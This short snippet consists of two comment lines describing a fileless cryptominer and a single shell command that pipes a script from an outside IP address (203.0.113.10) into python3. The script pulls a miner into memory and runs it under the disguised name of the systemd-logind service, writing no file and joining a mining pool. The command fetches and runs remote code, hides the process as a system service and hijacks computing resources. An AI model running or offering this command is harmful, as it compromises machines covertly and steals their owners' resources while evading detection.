# A fetched script downloads a miner into memory and runs it from there, under the name of a system service. The
# configuration is in memory, too. The miner logs in to a pool, and no file is written.
curl -fsS http://203.0.113.10/load.py | python3 - http://203.0.113.10/agent /lib/systemd/systemd-logind
